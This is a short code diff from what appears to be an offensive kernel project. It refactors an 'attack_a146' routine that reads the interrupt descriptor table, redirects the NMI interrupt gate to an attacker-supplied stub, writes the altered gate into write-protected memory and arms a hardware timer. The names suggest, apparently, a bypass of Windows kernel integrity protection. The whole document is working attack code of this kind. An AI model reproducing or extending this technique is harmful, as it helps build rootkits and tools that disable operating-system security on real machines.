@@ -52,13 +52,6 @@ __asm__(".text\n.global attack_a146_stub\nattack_a146_stub:\n"
 	"\tiretq\n"
 	"2:\tcli\n\thlt\n\tjmp 2b\n");
 
-struct gate {
-	uint16_t off_lo, sel;
-	uint8_t ist, attr;
-	uint16_t off_mid;
-	uint32_t off_hi, reserved;
-} __attribute__((packed));
-
 static struct ktimer wait_timer;
 static struct dpc wait_dpc;
 static struct pg_state *pgs;
@@ -91,18 +84,10 @@ static void arm(struct dpc *d, void *ctx)
 	attack_a146_hi2 = stop_hi_at + slide;
 	attack_a146_stopping = &pgs->stopping;
 	attack_a146_ticks = a_find_tick_count();
-	struct {
-		uint16_t limit;
-		uint64_t base;
-	} __attribute__((packed)) idtr;
-	__asm__ volatile("sidt %0" : "=m"(idtr));
-	struct gate *g = (struct gate *)idtr.base + VEC_NMI;
+	struct gate *g = a_idt() + VEC_NMI;
 	struct gate ng = *g;
-	attack_a146_original = g->off_lo | (uint64_t)g->off_mid << 16 | (uint64_t)g->off_hi << 32;
-	uint64_t stub = (uint64_t)&attack_a146_stub;
-	ng.off_lo = stub & 0xFFFF;
-	ng.off_mid = (stub >> 16) & 0xFFFF;
-	ng.off_hi = stub >> 32;
+	attack_a146_original = a_gate_target(g);
+	a_gate_point(&ng, (uint64_t)&attack_a146_stub);
 	a_write_protected(g, &ng, sizeof ng);
 	a_outb(PIT_CMD, PIT_CH0_MODE2);
 	a_outb(PIT_CH0, 10);
